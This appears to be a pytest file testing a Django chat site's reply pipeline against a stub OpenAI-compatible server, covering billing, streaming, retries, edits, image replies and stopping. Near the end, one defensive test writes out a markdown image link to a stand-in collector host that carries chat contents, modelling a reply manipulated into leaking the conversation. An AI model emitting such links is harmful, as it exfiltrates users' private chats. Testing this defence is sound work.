"""The reply pipeline against a real OpenAI-compatible server on 127.0.0.1 (the stub upstream)."""

import io
import json
import threading
import time
from decimal import Decimal

import pytest
from django.db import connection
from PIL import Image

from billing.models import UsageEvent
from chatbots.tests.factories import AIModelFactory, ChatbotFactory
from chatsite.testing.sse import events_only, parse_events
from sessions_app.models import ChatMessage
from sessions_app.runtime import live_get
from sessions_app.tests.factories import ChatSessionFactory

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def session(upstream_chat):
    return upstream_chat


def send(client, session, text="Hello", **extra):
    return client.post(f"/api/chat-sessions/{session.pk}/send/", {"message": text, **extra}, format="json")


def chat_requests(upstream):
    return [r for r in upstream.requests if r["path"].endswith("/chat/completions")]


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


def test_a_reply_comes_from_the_upstream_and_is_charged_its_reported_usage(api_client, session, upstream):
    upstream.enqueue_text("Hi there, friend.", usage=(12, 5), cost="0.0021")

    response = send(api_client, session, "Hello")

    assert response.status_code == 201
    reply = response.json()["assistant_message"]
    assert reply["content"] == "Hi there, friend."
    assert reply["status"] == "complete"
    assert reply["tokens_count"] == 5
    event = UsageEvent.objects.get()
    assert (event.prompt_tokens, event.completion_tokens, event.billed_tokens) == (12, 5, 17)
    assert event.cost_usd == Decimal("0.0021")
    (sent,) = chat_requests(upstream)
    assert sent["json"]["model"] == "vendor/chat"
    assert sent["json"]["stream"] is True
    assert sent["headers"]["Authorization"] == "Bearer test-key"
    assert sent["json"]["messages"] == [
        {"role": "system", "content": "You are a helpful assistant."},
        {"role": "user", "content": "Hello"},
    ]


def test_without_a_reported_cost_the_models_prices_apply(api_client, session, upstream):
    upstream.enqueue_text("ok", usage=(1000, 500))

    send(api_client, session)

    # 1000 x $1/M + 500 x $2/M
    assert UsageEvent.objects.get().cost_usd == Decimal("0.002")


def test_multibyte_utf8_split_across_chunks_streams_intact(api_client, session, upstream):
    text = "héllo wörld 你好 🎉"
    body = (
        b'data: {"choices":[{"index":0,"delta":{"content":"' + text.encode() + b'"}}]}\n\n'
        b'data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n'
    )
    cut_inside = body.index("你".encode()) + 1  # in the middle of a three-byte character
    emoji = body.index("🎉".encode()) + 2
    upstream.enqueue_raw([body[:cut_inside], body[cut_inside:emoji], body[emoji:]], delay=0.05)

    response = send(api_client, session, stream=True)

    events = events_only(parse_events(response.streaming_content))
    assert "".join(e.data["content"] for e in events if e.event == "delta") == text
    assert ChatMessage.objects.get(message_type="assistant").content == text


@pytest.mark.parametrize(
    ("script", "status", "code"),
    [
        (
            lambda stub: [stub.enqueue_status(429, headers={"Retry-After": "0"}) for _ in range(3)],
            502,
            "upstream_error",
        ),
        (lambda stub: [stub.enqueue_status(500) for _ in range(3)], 502, "upstream_error"),
        (lambda stub: stub.enqueue_malformed(), 502, "upstream_error"),
        (lambda stub: [stub.enqueue_hang(3) for _ in range(3)], 504, "upstream_timeout"),
    ],
    ids=["429", "500", "malformed", "timeout"],
)
def test_a_failure_before_any_token_keeps_the_message_and_charges_nothing(
    api_client, session, upstream, settings, script, status, code
):
    settings.AI_TIMEOUT = 0.3
    script(upstream)

    response = send(api_client, session, "Are you there?")

    assert response.status_code == status
    assert response.json()["code"] == code
    # The user is told what failed, never where: no address of the upstream in the answer or the reply.
    assert "127.0.0.1" not in response.json()["detail"]
    assert ChatMessage.objects.get(message_type="assistant").error_detail == response.json()["detail"]
    user_message = ChatMessage.objects.get(message_type="user")
    assert user_message.content == "Are you there?" and not user_message.disabled
    reply = ChatMessage.objects.get(message_type="assistant")
    assert reply.status == ChatMessage.Status.FAILED and reply.disabled
    assert reply.error_code == code
    event = UsageEvent.objects.get()
    assert event.state == UsageEvent.State.RELEASED
    assert event.billed_tokens == 0 and event.cost_usd == 0


def test_a_refused_connection_is_502(api_client, user, chatbot, refused_base_url, settings):
    settings.AI_API_KEY = "key"
    settings.AI_RETRY_BACKOFF = 0
    model = AIModelFactory(provider="openai", api_base=refused_base_url)
    session = ChatSessionFactory(user=user, chatbot=chatbot, ai_model=model)

    response = send(api_client, session)

    assert response.status_code == 502
    assert response.json()["detail"] == "Could not reach the AI provider."
    assert ChatMessage.objects.filter(message_type="user").count() == 1
    assert UsageEvent.objects.get().state == UsageEvent.State.RELEASED


def test_a_timeout_before_any_token_is_an_error_event_in_a_stream(api_client, session, upstream, settings):
    settings.AI_TIMEOUT = 0.3
    settings.AI_MAX_RETRIES = 0
    upstream.enqueue_hang(3)

    events = events_only(parse_events(send(api_client, session, stream=True).streaming_content))

    assert [e.event for e in events] == ["user_message", "error"]
    assert events[-1].data["code"] == "upstream_timeout"


def test_an_error_mid_stream_keeps_the_partial_reply_and_charges_only_it(api_client, session, upstream):
    upstream.enqueue_raw(
        [
            b'data: {"choices":[{"index":0,"delta":{"content":"The first half "}}]}\n\n',
            b'data: {"choices":[{"index":0,"delta":{"content":"of an answer"}}]}\n\n',
            b'data: {"error":{"message":"Provider overloaded","code":502}}\n\n',
        ]
    )

    events = events_only(parse_events(send(api_client, session, stream=True).streaming_content))

    names = [e.event for e in events]
    assert names[-4:] == ["assistant_message", "usage", "error", "done"]
    assert events[-2].data["code"] == "upstream_error"
    reply = ChatMessage.objects.get(message_type="assistant")
    assert reply.content == "The first half of an answer"
    assert reply.status == ChatMessage.Status.PARTIAL and not reply.disabled
    event = UsageEvent.objects.get()
    assert event.state == UsageEvent.State.SETTLED
    assert event.completion_tokens == 7  # the 27 characters produced, estimated


def test_a_cut_stream_keeps_the_partial_reply(api_client, session, upstream):
    upstream.enqueue_raw([b'data: {"choices":[{"index":0,"delta":{"content":"Cut off in the mid"}}]}\n\n'], cut=True)

    response = send(api_client, session)

    assert response.status_code == 201
    reply = response.json()["assistant_message"]
    assert reply["status"] == "partial"
    assert reply["content"] == "Cut off in the mid"
    assert UsageEvent.objects.get().state == UsageEvent.State.SETTLED


def test_after_an_edit_the_upstream_gets_only_the_active_history(api_client, session, upstream):
    upstream.enqueue_text("Answer one")
    first = send(api_client, session, "first question").json()
    upstream.enqueue_text("Answer two")
    send(api_client, session, "second question")
    upstream.enqueue_text("Answer to the edit")

    response = api_client.post(
        f"/api/chat-sessions/{session.pk}/messages/{first['user_message']['message_id']}/edit/",
        {"content": "first question, edited"},
        format="json",
    )

    assert response.json()["assistant_message"]["content"] == "Answer to the edit"
    assert chat_requests(upstream)[-1]["json"]["messages"] == [
        {"role": "system", "content": "You are a helpful assistant."},
        {"role": "user", "content": "first question, edited"},
    ]


def test_regenerate_sends_the_history_without_the_replaced_reply(api_client, session, upstream):
    upstream.enqueue_text("First try")
    send(api_client, session, "question")
    upstream.enqueue_text("Second try")

    response = api_client.post(f"/api/chat-sessions/{session.pk}/regenerate/")

    assert response.json()["assistant_message"]["content"] == "Second try"
    assert [m["content"] for m in chat_requests(upstream)[-1]["json"]["messages"]] == [
        "You are a helpful assistant.",
        "question",
    ]


def test_history_that_does_not_fit_the_context_drops_the_oldest_first(api_client, user, chatbot, upstream):
    # 1024 tokens stay free for the reply: 1124 leaves 100 for the prompt.
    model = AIModelFactory(provider="openai", context_length=1124)
    session = ChatSessionFactory(user=user, chatbot=chatbot, ai_model=model)
    for number in range(1, 5):
        ChatMessage.objects.create(session=session, message_type="user", content=f"old {number} " + "x" * 100)
        ChatMessage.objects.create(session=session, message_type="assistant", content=f"reply {number} " + "y" * 100)
    upstream.enqueue_text("fits")

    send(api_client, session, "newest question")

    sent = chat_requests(upstream)[-1]["json"]["messages"]
    assert sent[0] == {"role": "system", "content": "You are a helpful assistant."}
    assert sent[-1] == {"role": "user", "content": "newest question"}
    kept = [m["content"].split(" ")[0] + " " + m["content"].split(" ")[1] for m in sent[1:-1]]
    # Each old message is ~31 tokens: the two newest fit beside the system prompt and the question.
    assert kept == ["old 4", "reply 4"]


@pytest.mark.parametrize("via", ["images", "chat"])
def test_an_image_chatbot_stores_the_upstreams_image(api_client, user, upstream, settings, via):
    settings.AI_IMAGE_API = via
    model = AIModelFactory(provider="openai", model_type="image", model_id="vendor/painter")
    session = ChatSessionFactory(user=user, chatbot=ChatbotFactory(chatbot_type="image"), ai_model=model)
    upstream.enqueue_image(png_bytes(), via=via)

    response = send(api_client, session, "a red square")

    assert response.status_code == 201
    url = response.json()["assistant_message"]["image_url"]
    stored = settings.MEDIA_ROOT / url.removeprefix("/media/")
    assert stored.read_bytes() == png_bytes()
    assert UsageEvent.objects.get().kind == UsageEvent.Kind.IMAGE


def test_the_title_model_names_the_chat_after_the_first_exchange(api_client, session, upstream, settings):
    settings.TITLE_MODEL = "vendor/titler"
    upstream.enqueue_text("Sure, here is a plan.")
    upstream.enqueue_text('"Lisbon Weekend Plan"')

    send(api_client, session, "Plan a weekend in Lisbon for me")

    session.refresh_from_db()
    assert session.title == "Lisbon Weekend Plan"
    title_request = chat_requests(upstream)[-1]["json"]
    assert title_request["model"] == "vendor/titler"
    assert "Plan a weekend in Lisbon for me" in json.dumps(title_request["messages"])


def test_a_failing_title_model_falls_back_to_the_first_words(api_client, session, upstream, settings):
    settings.TITLE_MODEL = "vendor/titler"
    settings.AI_MAX_RETRIES = 0
    upstream.enqueue_text("Sure.")
    upstream.enqueue_status(500)

    send(api_client, session, "Plan a weekend in Lisbon for me")

    session.refresh_from_db()
    assert session.title == "Plan a weekend in Lisbon for me"


def test_stop_ends_the_upstream_call(api_client, session, upstream):
    upstream.enqueue_text("word " * 200, chunks=["word "] * 200, delay=0.02)
    response = send(api_client, session, stream=True)
    items = parse_events(response.streaming_content)
    for item in items:
        if getattr(item, "event", None) == "delta":
            break

    api_client.post(f"/api/chat-sessions/{session.pk}/stop/")
    rest = events_only(items)

    assert rest[-1].data["status"] == "stopped"
    assert upstream.wait_for_disconnect(timeout=5)
    reply = ChatMessage.objects.get(message_type="assistant")
    assert reply.status == ChatMessage.Status.STOPPED
    assert 0 < len(reply.content) < len("word " * 200)


def _consume_in_background(response):
    """Read the event stream in a thread; return the thread and the events it collects."""
    collected = []

    def read():
        try:
            collected.extend(events_only(parse_events(response.streaming_content)))
        finally:
            connection.close()  # the stream's last events read the database from this thread

    reader = threading.Thread(target=read)
    reader.start()
    return reader, collected


SILENT_AFTER_ONE_CHUNK = [
    b'data: {"choices":[{"index":0,"delta":{"content":"Thinking about it"}}]}\n\n',
    b'data: {"choices":[{"index":0,"delta":{"content":" at length"}}]}\n\ndata: [DONE]\n\n',
]


@pytest.mark.parametrize("where", ["this server", "another server"])
def test_stop_ends_a_reply_whose_upstream_went_silent(api_client, session, upstream, where):
    # The second chunk would come 30 s later: only a stop that hangs up ends the wait.
    upstream.enqueue_raw(SILENT_AFTER_ONE_CHUNK, delay=30)
    reader, events = _consume_in_background(send(api_client, session, stream=True))
    wait_for(lambda: ChatMessage.objects.filter(message_type="assistant").exists())
    reply = ChatMessage.objects.get(message_type="assistant")
    wait_for(lambda: live_get(reply.pk) is not None and live_get(reply.pk).content)

    if where == "this server":
        api_client.post(f"/api/chat-sessions/{session.pk}/stop/")
    else:
        # What another server's stop does: only the database knows.
        ChatMessage.objects.filter(pk=reply.pk).update(status=ChatMessage.Status.STOPPED)
    reader.join(timeout=10)

    assert not reader.is_alive()
    assert events[-1].event == "done" and events[-1].data["status"] == "stopped"
    reply.refresh_from_db()
    assert reply.status == ChatMessage.Status.STOPPED
    assert reply.content == "Thinking about it"
    assert UsageEvent.objects.get().state == UsageEvent.State.SETTLED


def wait_for(condition, timeout=10.0):
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "condition not met in time"
        time.sleep(0.02)


def test_a_remote_image_in_a_reply_or_a_message_loads_nothing(api_client, session, upstream):
    # A reply talked into hiding the chat in an image address: the page would fetch it as it opens.
    leak = "https://collector.example/p.png?chat=secret+words"
    upstream.enqueue_text(f"Sure! ![status]({leak}) and ours: ![plot](/media/generated/{session.pk}/a.png)")

    events = events_only(parse_events(send(api_client, session, f"Look: ![me]({leak})", stream=True).streaming_content))

    html = next(e for e in events if e.event == "assistant_message").data["content_html"]
    ours = f'<img src="/media/generated/{session.pk}/a.png" alt="plot">'
    assert ours in html
    assert "<img" not in html.replace(ours, ""), html
    assert f'<a href="{leak}" rel="noopener noreferrer nofollow">status</a>' in html  # followed only on purpose
    page = api_client.get(f"/chat/{session.pk}/").content.decode()
    assert "collector.example" in page  # the message and the reply are there, as links
    assert 'src="https://collector.example' not in page
    assert ours in page


def test_an_upstream_silent_after_its_headers_is_tried_again(api_client, session, upstream, settings):
    settings.AI_TIMEOUT = 0.3
    upstream.enqueue_silent(3)
    upstream.enqueue_text("Here now.", usage=(5, 2))

    response = send(api_client, session)

    assert response.status_code == 201, response.content
    assert response.json()["assistant_message"]["content"] == "Here now."
    assert len(chat_requests(upstream)) == 2
    assert UsageEvent.objects.get().state == UsageEvent.State.SETTLED
